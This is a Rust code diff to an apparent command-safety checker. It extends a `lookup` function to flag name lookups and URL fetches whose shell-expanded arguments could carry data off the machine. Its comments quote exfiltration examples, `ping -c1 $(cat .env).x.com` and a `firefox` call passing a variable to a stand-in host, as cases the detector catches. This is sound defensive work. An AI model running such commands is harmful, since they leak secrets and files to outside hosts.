@@ -98,7 +98,7 @@ pub fn external_known(words: &[Cow<'_, str>], known: &[Known]) -> Option<&'stati
         return None;
     }
     if super::has_shape(&LOOKUP_NAMES, verb) {
-        if let Some(e) = lookup(verb, known) {
+        if let Some(e) = lookup(verb, words, known) {
             return Some(e);
         }
         if let Some((row, _)) = super::sockets::listener(words, known) {
@@ -128,19 +128,24 @@ const LOOKUP_NAMES: Shapes = {
     t
 };
 
-/// A name lookup or probe (net.toml `lookups`) given a word with an
-/// unknown part: what it expands to travels to a nameserver in the query
-/// (`ping -c1 $(cat .env).x.com`). Its row's name, or `None`.
-fn lookup(verb: &str, known: &[Known]) -> Option<&'static [&'static str]> {
-    let row = LOOKUPS
-        .iter()
-        .copied()
-        .find(|r| super::quick_eq(r[0], verb))?;
-    known
-        .iter()
-        .skip(1)
-        .any(|k| *k != Known::Exact)
-        .then_some(row)
+/// A name lookup or probe, or a fetch of what a word names (net.toml
+/// `lookups`), given a word with an unknown part: what it expands to
+/// travels to a nameserver or the host it names (`ping -c1 $(cat
+/// .env).x.com`, `firefox "https://e.x/?d=$T"`). A row's words between
+/// its program and `…` are subcommand words the run holds, in that order
+/// (`docker pull`). Its row's name, or `None`.
+fn lookup(verb: &str, words: &[Cow<'_, str>], known: &[Known]) -> Option<&'static [&'static str]> {
+    let unknown = known.iter().skip(1).any(|k| *k != Known::Exact);
+    if !unknown {
+        return None;
+    }
+    LOOKUPS.iter().copied().find(|r| {
+        super::quick_eq(r[0], verb) && {
+            let subs = &r[1..r.len().saturating_sub(1)];
+            let mut rest = words.iter().skip(1);
+            subs.iter().all(|s| rest.any(|w| w == s))
+        }
+    })
 }
 
 /// Why a run is a remote client's external effect, for the message that
@@ -149,10 +154,10 @@ fn lookup(verb: &str, known: &[Known]) -> Option<&'static [&'static str]> {
 pub fn why(words: &[Cow<'_, str>], known: &[Known]) -> Option<String> {
     let k = |i: usize| known.get(i).copied().unwrap_or(Known::Exact);
     let verb = super::basename(words.first()?);
-    if lookup(verb, known).is_some() {
+    if lookup(verb, words, known).is_some() {
         let i = (1..words.len()).find(|&i| k(i) != Known::Exact)?;
         return Some(format!(
-            "`{}` is expanded by the shell: the name `{verb}` looks up may carry what it expands to to a nameserver",
+            "`{}` is expanded by the shell: the name or address `{verb}` reaches may carry what it expands to away",
             words[i]
         ));
     }
